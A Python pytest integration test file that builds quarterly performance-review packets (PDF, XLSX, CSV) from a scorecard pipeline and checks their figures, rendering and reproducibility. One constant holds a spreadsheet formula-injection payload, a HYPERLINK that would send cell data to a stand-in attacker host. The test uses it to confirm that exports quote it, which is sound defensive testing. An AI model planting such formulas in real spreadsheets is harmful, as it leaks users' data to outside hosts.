"""Review packets through the real pipeline (issue #19's "done when"): events through ingest,
measures and scorecard; commentary through the gateway; the packet built from the lane's store
by the real read doors, then read back with Poppler.

* every measure's value, target, annual target and status in the PDF's text equal the
  scorecard ``asOf`` the cut-off that GraphQL answers, and the government-wide packet's too;
* ``pdftoppm`` renders every page (as many as the packet says, none blank); ``pdfinfo``: tagged,
  with the review's title;
* a restatement ingested after review A's cut-off is in review B's changes (cause
  ``restatement``), and A rebuilt gives the same bytes (PDF, XLSX, CSV) while nothing changed,
  and the same tables after the restatement;
* the XLSX and CSV round-trip with the same figures and a commentary ``=HYPERLINK(...)``
  arrives quoted.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zlib
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import qsmo_stack
from gateway_pipeline_support import Pipeline, eventually, running_pipeline

from gateway.analysis_store import MongoAnalysisStore
from gateway.framework_admin import FrameworkAdmin
from gateway.reviews.packet_builder import ReviewPacketBuilder, build_packet_builder
from services.measures.read_model import MeasureValuesReader
from services.scorecard.read_model import ScorecardReader
from shared.catalog import load_catalog
from shared.domain.review_packet import format_value
from shared.domain.reviews import Review, ReviewState, review_id
from shared.framework_log import MongoFrameworkLog
from shared.mongo import create_mongo_client
from shared.review_packets import RenderedPacket

QSMO = "cybersecurity"
YEAR = 2024
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
AS_OF = """query($q: ID, $at: DateTime) { scorecard(fiscalYear: 2024, qsmo: $q, asOf: $at) {
  version measures { id name value target annualTarget status active } } }"""
EVENTS = [  # (measure, value, occurred_at)
    ("customer-satisfaction", 4.4, "2023-10-12T10:00:00Z"),
    ("customer-satisfaction", 3.0, "2024-03-12T10:00:00Z"),
    ("customer-engagement", 10, "2023-10-20T10:00:00Z"),
    ("customer-engagement", 12, "2024-03-20T10:00:00Z"),
    ("price-transparency", 85, "2024-01-05T10:00:00Z"),
    ("cost-avoidance", 1250000, "2024-02-05T10:00:00Z"),
]
NEXT_YEAR = ("customer-satisfaction", 4.0, "2024-10-15T10:00:00Z")
"""FY2025's first event: once it is seen, FY2024 counts as reported."""
LATE = ("customer-satisfaction", 1.0, "2023-11-15T10:00:00Z")
"""Arrives after review A's cut-off for FY2024, already reported (``NEXT_YEAR`` was seen)."""
FY2025 = """{ scorecard(fiscalYear: 2025, qsmo: "cybersecurity") {
  measure(id: "customer-satisfaction") { value } } }"""


@pytest.fixture(scope="module")
def poppler() -> dict[str, str]:
    """pdftoppm, pdftotext, pdfinfo (installed as ``make test``'s preparation does)."""
    return qsmo_stack.ensure_poppler()


@dataclass
class PacketLane:
    pipeline: Pipeline
    builder: ReviewPacketBuilder


@pytest.fixture(scope="module")
async def lane(stack: qsmo_stack.Stack) -> AsyncIterator[PacketLane]:
    catalog = load_catalog()
    async with running_pipeline(stack) as pipeline:
        client = create_mongo_client(stack.mongo_url)
        database = client[pipeline.lane.database]
        framework = FrameworkAdmin(MongoFrameworkLog(database), None, catalog=catalog)

        async def qsmo_ids() -> list[str]:
            return [q.id for q in await framework.qsmos()]

        builder = build_packet_builder(
            scorecards=ScorecardReader(database, catalog.framework(), qsmo_ids=qsmo_ids),
            values=MeasureValuesReader(database),
            analysis=MongoAnalysisStore(database),
            framework=framework,
            catalog=catalog,
            executor=None,
        )
        try:
            yield PacketLane(pipeline, builder)
        finally:
            await client.close()


def review(quarter: int, cut_off: datetime, qsmo: str | None = QSMO) -> Review:
    return Review(
        id=review_id(qsmo, YEAR, quarter),
        qsmo=qsmo,
        fiscal_year=YEAR,
        quarter=quarter,
        title=f"FY{YEAR} Q{quarter} performance review — {qsmo or 'government-wide'}",
        meeting_date=cut_off.date(),
        participants=("OSSPI", "OMB"),
        cut_off=cut_off,
        state=ReviewState.READY,
        created_at=cut_off,
        created_by="admin",
        updated_at=cut_off,
    )


async def scored_events(pipeline: Pipeline, count: int) -> None:
    async def counted() -> bool:
        card = (await pipeline.data(AS_OF, {"q": QSMO, "at": None}))["scorecard"]
        return (
            card is not None and sum(1 for m in card["measures"] if m["value"] is not None) >= count
        )

    await eventually(counted, 90, f"{count} measures of {QSMO} scored")


async def as_of(pipeline: Pipeline, qsmo: str | None, at: datetime) -> dict[str, Any]:
    card = (await pipeline.data(AS_OF, {"q": qsmo, "at": at.isoformat()}))["scorecard"]
    assert card is not None
    return dict(card)


def pdf_text(poppler: dict[str, str], pdf: bytes, tmp: Path) -> str:
    path = tmp / "packet.pdf"
    path.write_bytes(pdf)
    result = subprocess.run(
        [poppler["pdftotext"], "-layout", str(path), "-"], capture_output=True, check=True
    )
    return result.stdout.decode("utf-8")


def pdf_info(poppler: dict[str, str], pdf: bytes, tmp: Path, *flags: str) -> str:
    path = tmp / "info.pdf"
    path.write_bytes(pdf)
    command = [poppler["pdfinfo"], *flags, str(path)]
    return subprocess.run(command, capture_output=True, check=True).stdout.decode("utf-8")


def page_images(poppler: dict[str, str], pdf: bytes, tmp: Path) -> list[bytes]:
    """Every page as a PNG at 60 dpi (``pdftoppm``), in order."""
    path = tmp / "pages.pdf"
    path.write_bytes(pdf)
    command = [poppler["pdftoppm"], "-png", "-r", "60", str(path), str(tmp / "page")]
    subprocess.run(command, check=True, capture_output=True)
    return [page.read_bytes() for page in sorted(tmp.glob("page-*.png"))]


def assert_figures_shown(text: str, card: dict[str, Any]) -> None:
    """Each active measure has a line: its name's start, then its value, target to date,
    annual target and status exactly as ``format_value`` writes the scorecard's numbers."""
    units = {m.id: m.unit for m in load_catalog().framework().measures}
    for m in (m for m in card["measures"] if m["active"]):
        unit = units[m["id"]]
        cells = [
            format_value(unit, m["value"]),
            format_value(unit, m["target"]),
            format_value(unit, m["annualTarget"]),
            m["status"].replace("_", " "),
        ]
        pattern = re.escape(m["name"][:14]) + r".*" + r"\s+".join(re.escape(c) for c in cells)
        lines = [line for line in text.splitlines() if m["name"][:14] in line]
        assert re.search(pattern, text), f"{m['name']}: {cells} not in the packet's lines {lines}"


def dark_pixels(png: bytes) -> int:
    """Pixels darker than mid-grey in an 8-bit greyscale or RGB PNG (what ``pdftoppm`` writes)."""
    position, idat, width, height, channels = 8, b"", 0, 0, 1
    while position < len(png):
        length = int.from_bytes(png[position : position + 4], "big")
        kind = png[position + 4 : position + 8]
        body = png[position + 8 : position + 8 + length]
        if kind == b"IHDR":
            width, height = int.from_bytes(body[:4], "big"), int.from_bytes(body[4:8], "big")
            assert body[8] == 8, "expected 8 bits per channel"
            channels = {0: 1, 2: 3}[body[9]]
        elif kind == b"IDAT":
            idat += body
        position += 12 + length
    stride, raw = width * channels, zlib.decompress(idat)
    previous, dark = bytearray(stride), 0
    for row in range(height):
        start = row * (stride + 1)
        kind, line = raw[start], bytearray(raw[start + 1 : start + 1 + stride])
        for x in range(stride):  # undo the row's filter (PNG spec, 9.2)
            a = line[x - channels] if x >= channels else 0
            b = previous[x]
            c = previous[x - channels] if x >= channels else 0
            if kind == 1:
                line[x] = (line[x] + a) & 0xFF
            elif kind == 2:
                line[x] = (line[x] + b) & 0xFF
            elif kind == 3:
                line[x] = (line[x] + (a + b) // 2) & 0xFF
            elif kind == 4:
                p = a + b - c
                pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
                line[x] = (line[x] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 0xFF
        dark += sum(
            1 for x in range(0, stride, channels) if sum(line[x : x + channels]) < 128 * channels
        )
        previous = line
    return dark


def tables_of(rendered: RenderedPacket) -> list[list[Any]]:
    book = openpyxl.load_workbook(io.BytesIO(rendered.xlsx))
    return [[s.title, *row] for s in book for row in s.iter_rows(values_only=True)]


async def test_the_packet_shows_the_scorecard_as_of_the_cut_off(
    lane: PacketLane, poppler: dict[str, str], tmp_path: Path
) -> None:
    pipeline = lane.pipeline
    for measure, value, at in EVENTS:
        await pipeline.send(QSMO, measure, value, at)
    await scored_events(pipeline, 4)
    await pipeline.data(
        """mutation($text: String!) { addCommentary(qsmo: "cybersecurity",
        measure: "customer-satisfaction", fiscalYear: 2024, text: $text) { id } }""",
        {"text": FORMULA},
        who=QSMO,
    )
    cut_off = datetime.now(UTC)
    first = review(2, cut_off)
    rendered = await lane.builder.build(first, None)

    text = pdf_text(poppler, rendered.pdf, tmp_path)
    card = await as_of(pipeline, QSMO, cut_off)
    assert_figures_shown(text, card)
    assert "First review of this scope" in text
    assert rendered.summary in text

    info = pdf_info(poppler, rendered.pdf, tmp_path)
    assert re.search(r"^Tagged:\s+yes$", info, re.MULTILINE), info
    assert re.search(rf"^Title:\s+{re.escape(first.title)}$", info, re.MULTILINE), info
    assert re.search(rf"^Pages:\s+{rendered.pages}$", info, re.MULTILINE), info
    assert "<pdfuaid:part>1</pdfuaid:part>" in pdf_info(poppler, rendered.pdf, tmp_path, "-meta")
    pages = page_images(poppler, rendered.pdf, tmp_path)
    assert len(pages) == rendered.pages
    assert all(dark_pixels(page) > 500 for page in pages)

    rows = tables_of(rendered)
    satisfaction = next(r for r in rows if r[0] == "Measures" and r[2] == "Customer Satisfaction")
    expected = next(m for m in card["measures"] if m["id"] == "customer-satisfaction")
    assert satisfaction[3:7] == [
        expected["value"],
        expected["target"],
        expected["annualTarget"],
        expected["status"].replace("_", " "),
    ]
    attention = next(r for r in rows if r[0] == "Attention" and r[1] == "Customer Satisfaction")
    assert str(attention[5]).startswith("'" + FORMULA)
    records = list(csv.DictReader(io.StringIO(rendered.csv.decode("utf-8"))))
    shown = next(
        r for r in records if r["section"] == "Measures" and r["Measure"] == "Customer Satisfaction"
    )
    assert float(shown["Value"]) == expected["value"]
    commented = next(
        r
        for r in records
        if r["section"] == "Attention" and r["Measure"] == "Customer Satisfaction"
    )
    assert commented["Commentary"].startswith("'" + FORMULA)

    government = await lane.builder.build(review(2, cut_off, None), None)
    assert_figures_shown(
        pdf_text(poppler, government.pdf, tmp_path), await as_of(pipeline, None, cut_off)
    )


async def test_a_restatement_after_the_cut_off_shows_in_the_next_reviews_changes(
    lane: PacketLane, poppler: dict[str, str], tmp_path: Path
) -> None:
    pipeline = lane.pipeline
    if (await pipeline.data(AS_OF, {"q": QSMO, "at": None}))["scorecard"] is None:
        for measure, value, at in EVENTS:
            await pipeline.send(QSMO, measure, value, at)
        await scored_events(pipeline, 4)
    await pipeline.send(QSMO, *NEXT_YEAR)

    async def next_year_scored() -> bool:
        card = (await pipeline.data(FY2025))["scorecard"]
        return card is not None and card["measure"]["value"] == NEXT_YEAR[1]

    await eventually(next_year_scored, 60, "FY2025's first event scored")
    first = review(2, datetime.now(UTC))
    before = await as_of(pipeline, QSMO, first.cut_off)
    packet_a = await lane.builder.build(first, None)
    assert await lane.builder.build(first, None) == packet_a  # reproducible: same bytes

    await pipeline.send(QSMO, *LATE)

    async def restated() -> bool:
        card = (await pipeline.data(AS_OF, {"q": QSMO, "at": None}))["scorecard"]
        return card["version"] > before["version"]

    await eventually(restated, 60, "the late event scored")
    second = review(3, datetime.now(UTC)).model_copy(update={"previous_review_id": first.id})
    content = await lane.builder.content(second, first)
    changes = next(t for t in content.tables if t.sheet == "Changes")  # measures, then dimensions
    row = next(r for r in changes.rows if r[0] == "Customer Satisfaction")
    assert "restatement" in str(row[5])
    text = pdf_text(poppler, (await lane.builder.build(second, first)).pdf, tmp_path)
    assert re.search(r"Customer Satisfaction.*restatement", text)

    again = await lane.builder.build(first, None)  # A as of its cut-off, after the restatement
    assert again.csv == packet_a.csv
    assert again.xlsx == packet_a.xlsx
    assert_figures_shown(pdf_text(poppler, again.pdf, tmp_path), before)
    assert "Includes data received after the cut-off." in pdf_text(poppler, again.pdf, tmp_path)
    assert (await as_of(pipeline, QSMO, first.cut_off)) == before
    assert timedelta(0) < second.cut_off - first.cut_off
